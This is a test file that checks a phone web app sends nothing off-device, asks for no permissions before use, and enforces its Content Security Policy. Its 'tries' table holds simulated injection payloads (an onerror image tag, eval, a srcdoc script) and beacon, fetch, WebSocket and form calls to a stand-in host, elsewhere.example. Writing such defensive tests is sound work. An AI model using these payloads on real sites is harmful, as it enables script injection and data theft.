/** Closed to strangers: nothing leaves the phone, nothing foreign runs on it, and it asks for nothing that is not used. */
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { describe, expect, inject, it, onTestFinished } from 'vitest';
import { headers } from '../../.ci/closed.mjs';
import { writeFilm } from '../support/film';
import { cameraPicture } from './camera-picture';
import { walkEveryRoute } from './every-route';
import { openWorkshop } from './invented-workshop';
import { expectClean, openPhone, untilKept } from './phone';
import { openProxy } from './recording-proxy';
import { openSite } from './site';

const title = (page: Page, name: string | RegExp) => page.getByRole('heading', { level: 1, name });

/** Errands of Chromium itself, which no page begins: its updater and its accounts. No file of the app names them. */
const browsersOwn = /^(https?:\/\/)?([a-z0-9-]+\.)*(google|googleapis|gstatic)\.com[:/]/;

const notTo = (address: string, asked: readonly string[]): readonly string[] =>
  asked.filter((url) => !url.startsWith(address) && !browsersOwn.test(url));

/** Notes whatever is asked of the phone that its owner could be asked about. */
async function noteWhatIsAsked(page: Page): Promise<() => Promise<readonly string[]>> {
  await page.addInitScript(() => {
    const asked: string[] = [];
    Object.assign(window, { asked });
    const note = (holder: object | undefined, name: string): void => {
      const call = holder && (Reflect.get(holder, name) as unknown);
      if (typeof call !== 'function') return;
      Object.defineProperty(holder, name, {
        value: function noted(...given: unknown[]) {
          asked.push(`${name} at ${window.location.hash}`);
          return new.target ? Reflect.construct(call, given) : Reflect.apply(call, holder, given);
        },
      });
    };
    const phone = navigator as unknown as Record<string, object | undefined>;
    note(phone.mediaDevices, 'getUserMedia');
    note(phone.mediaDevices, 'getDisplayMedia');
    note(phone.storage, 'persist');
    note(phone.wakeLock, 'request');
    note(phone.geolocation, 'getCurrentPosition');
    note(phone.geolocation, 'watchPosition');
    note(phone.clipboard, 'read');
    note(phone.clipboard, 'readText');
    for (const one of ['bluetooth', 'usb', 'serial', 'hid']) {
      note(phone[one], 'requestDevice');
      note(phone[one], 'requestPort');
    }
    note(navigator, 'requestMIDIAccess');
    note(navigator, 'share');
    note(window.Notification, 'requestPermission');
    note(window.PushManager?.prototype, 'subscribe');
    note(window, 'RTCPeerConnection');
    // Its dialog cannot be answered from here: a backup is saved as on a phone without it.
    Reflect.deleteProperty(window, 'showSaveFilePicker');
    note(window, 'showOpenFilePicker');
    note(window, 'showDirectoryPicker');
  });
  return () => page.evaluate(() => (window as unknown as { asked: string[] }).asked);
}

async function makeRegister(page: Page, address: string): Promise<Buffer> {
  await page.goto(`${address}#/papers/register`);
  await page.getByRole('radio', { name: /This month/ }).check();
  await page.getByRole('button', { name: /Make the register/ }).click();
  await title(page, 'The register is made').waitFor({ timeout: 120_000 });
  const saving = page.waitForEvent('download');
  await page.getByRole('link', { name: 'Save it' }).click();
  return readFile(await (await saving).path());
}

async function verify(page: Page, address: string, file: Buffer): Promise<void> {
  await page.goto(`${address}#/record/check`);
  const chosen = { name: 'register.pdf', mimeType: 'application/pdf', buffer: file };
  await page.getByLabel('Choose a file').setInputFiles(chosen);
  await page.getByText('Whole', { exact: true }).waitFor({ timeout: 120_000 });
}

async function takePhoto(page: Page, address: string): Promise<void> {
  await page.goto(`${address}#/containers/new`);
  const picture = { name: 'IMG.jpg', mimeType: 'image/jpeg', buffer: await cameraPicture(page, 400, 300) };
  await page.getByLabel('Choose pictures').setInputFiles(picture);
  await page.getByRole('link', { name: 'Open photo 1', exact: true }).waitFor();
}

/** Made with a passphrase, and read again. */
async function backUp(page: Page, address: string): Promise<void> {
  const passphrase = 'nine copper kettles';
  await page.goto(`${address}#/record/backup`);
  await page.getByRole('radio', { name: /Only who knows/ }).check();
  for (const label of ['Passphrase', 'Passphrase once more'])
    await page.getByLabel(label, { exact: true }).fill(passphrase);
  await page.getByRole('button', { name: 'Make the backup' }).click();
  await title(page, 'The backup is made').waitFor({ timeout: 120_000 });
  const [saved] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: /Save it/ }).click(),
  ]);
  const file = await saved.path();
  await page.goto(`${address}#/record/restore`);
  await page.locator('input[type=file]').setInputFiles(file);
  await page.getByLabel('Passphrase', { exact: true }).fill(passphrase);
  await page.getByRole('button', { name: 'Open it' }).click();
  await page.getByRole('heading', { name: 'The backup is whole' }).waitFor({ timeout: 120_000 });
}

async function lookThroughCamera(page: Page, address: string): Promise<void> {
  await page.goto(`${address}#/scan`);
  await page.getByRole('button', { name: /Look through the camera/ }).click();
  await page.getByText(/another workshop/).waitFor();
  await page.getByRole('button', { name: 'Stop the camera' }).click();
}

it('asks nobody but its own address, on every page and whatever is done, and the phone for nothing before it is used', async () => {
  const proxy = await openProxy();
  // As `npm start` serves it; the pages below try what holds on a plain host.
  const site = await openSite(inject('builtApp'), headers);
  const folder = await mkdtemp(join(tmpdir(), 'leesbook-film-'));
  onTestFinished(() => rm(folder, { recursive: true }));
  const camera = join(folder, 'label.y4m');
  await writeFilm(camera, 'https://elsewhere.example/#/containers/019a2b3c-4d5e-7f60-8a1b-2c3d4e5f6071');
  const page = await openPhone({ width: 360, height: 800, proxy: proxy.address, camera });
  const requests: string[] = [];
  page.context().on('request', (request) => requests.push(request.url()));
  const asked = await noteWhatIsAsked(page);
  await page.clock.install({ time: new Date('2026-05-14T07:42:00Z') });
  await page.goto(site.address);
  await untilKept(page);
  await openWorkshop(page);
  expect(await asked(), 'before anything is used').toEqual([]);

  const { addresses, leaving, titles } = await walkEveryRoute(page, site.address);
  expect(addresses.size).toBeGreaterThan(180);
  expect([...titles].filter(([, shown]) => shown === 'This page met an error')).toEqual([]);
  // To a telephone, to what the phone sends by itself, and to what the page has just made: each is a person's tap.
  const outside = [...leaving].filter((one) => !/^(tel|sms|mailto|blob) /.test(one));
  expect(outside).toEqual([]);
  // The pages of a list and of a treatment keep the screen lit; nobody is asked for that.
  expect((await asked()).filter((one) => !one.startsWith('request '))).toEqual([]);

  await takePhoto(page, site.address);
  await verify(page, site.address, await makeRegister(page, site.address));
  await backUp(page, site.address);
  expect((await asked()).filter((one) => !one.startsWith('request '))).toEqual([]);
  await lookThroughCamera(page, site.address);
  expect((await asked()).filter((one) => !one.startsWith('request '))).toEqual(['getUserMedia at #/scan']);

  expect(proxy.asked.length, 'the proxy sees what the browser asks').toBeGreaterThan(20);
  const own = [site.address, `blob:${site.address}`, 'data:'];
  expect(requests.filter((url) => !own.some((start) => url.startsWith(start)))).toEqual([]);
  expect(notTo(site.address, proxy.asked)).toEqual([]);
  expectClean(page);
}, 600_000);

describe('the security policy of the page', () => {
  /** What the page is made to try, as a stranger would who got a text into it. */
  const tries: Record<string, () => unknown> = {
    'a script in the page': () => {
      const script = document.createElement('script');
      script.append('window.ran = true');
      document.body.append(script);
    },
    'a script from elsewhere': () => {
      const script = document.createElement('script');
      script.setAttribute('src', 'http://elsewhere.example/a.js');
      document.body.append(script);
    },
    'a handler in the markup': () => document.body.setAttribute('onclick', 'window.ran = true'),
    // biome-ignore lint/security/noGlobalEval: it is what is to be refused
    'a text as code': () => window.eval('window.ran = true'),
    'a text as a function': () => new Function('window.ran = true')(),
    'a text as markup': () => {
      document.body.innerHTML = '<img src="x" onerror="window.ran = true">';
    },
    'a text as markup beside': () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
    'a frame with a text': () => {
      document.createElement('iframe').srcdoc = '<script>parent.ran = true</script>';
    },
    'a worker by its plain address': () => new Worker('./assets/any.js'),
    'a worker made of a text': () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
    'a policy of its own': () =>
      (
        window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
      ).trustedTypes.createPolicy('another', {}),
    'a picture from elsewhere': () => {
      new Image().src = 'http://elsewhere.example/a.png';
    },
    'a request elsewhere': () => fetch('http://elsewhere.example/').catch(() => undefined),
    'a message as the page is left': () => navigator.sendBeacon('http://elsewhere.example/', 'x'),
    'a connection elsewhere': () => new WebSocket('wss://elsewhere.example/'),
    'a frame from elsewhere': () => {
      const frame = document.createElement('iframe');
      frame.src = 'http://elsewhere.example/';
      document.body.append(frame);
    },
    'a style in the page': () => {
      const style = document.createElement('style');
      style.append('body { display: none }');
      document.head.append(style);
    },
    'a font from elsewhere': () =>
      new FontFace('x', 'url(http://elsewhere.example/a.woff2)').load().catch(() => undefined),
    'another base of addresses': () => {
      const base = document.createElement('base');
      base.href = 'http://elsewhere.example/';
      document.head.append(base);
    },
    'a form that sends': () => {
      const form = document.createElement('form');
      form.action = 'http://elsewhere.example/';
      document.body.append(form);
      form.submit();
    },
  };

  it('refuses whatever a text could try that got into the page', async () => {
    const site = await openSite();
    const proxy = await openProxy();
    const page = await openPhone({ width: 360, height: 800, proxy: proxy.address });
    await page.goto(site.address);
    await untilKept(page);
    // Put into the page as it would stand there, and begun by the page: what a debugger runs is not held to the policy.
    const outcomes: Record<string, boolean> = {};
    for (const [name, attempt] of Object.entries(tries)) {
      outcomes[name] = await page.evaluate(
        `new Promise((resolve) => {
          document.addEventListener('securitypolicyviolation', () => resolve(true), { once: true });
          setTimeout(async () => {
            try { await (${attempt.toString()})(); } catch (error) { }
            setTimeout(() => resolve(false), 2000);
          });
        })`,
      );
      expect(await page.evaluate('window.ran'), name).toBeUndefined();
    }
    expect(Object.entries(outcomes).filter(([, refused]) => !refused)).toEqual([]);
    expect(notTo(site.address, proxy.asked)).toEqual([]);
  });
});

it('holds no script in the page itself, and asks for it by the policy before anything else', async () => {
  const html = await readFile(join(inject('builtApp'), 'index.html'), 'utf8');
  const scripts = [...html.matchAll(/<script\b([^>]*)>([^<]*)/g)];
  expect(scripts.length).toBeGreaterThan(0);
  for (const [, attributes, inside] of scripts) {
    expect(attributes).toMatch(/ src="\.\//);
    expect(inside).toBe('');
  }
  expect(html).not.toMatch(/<style|\sstyle=|\son[a-z]+=|javascript:/);
  expect(html.indexOf('Content-Security-Policy')).toBeGreaterThan(0);
  for (const first of ['<script', '<link'])
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf(first));
});

it('names no host of Chromium’s own errands in any of its files', async () => {
  const files = await readdir(inject('builtApp'), { recursive: true });
  // The texts of the licences say whose they are, and stand on a page as texts.
  const texts = files.filter(
    (name) => /\.(js|css|html|json|webmanifest|svg)$/.test(name) && !name.includes('licences-'),
  );
  expect(texts.length).toBeGreaterThan(20);
  for (const name of texts)
    expect(await readFile(join(inject('builtApp'), name), 'utf8'), name).not.toMatch(
      /(google|googleapis|gstatic)\.com/,
    );
});
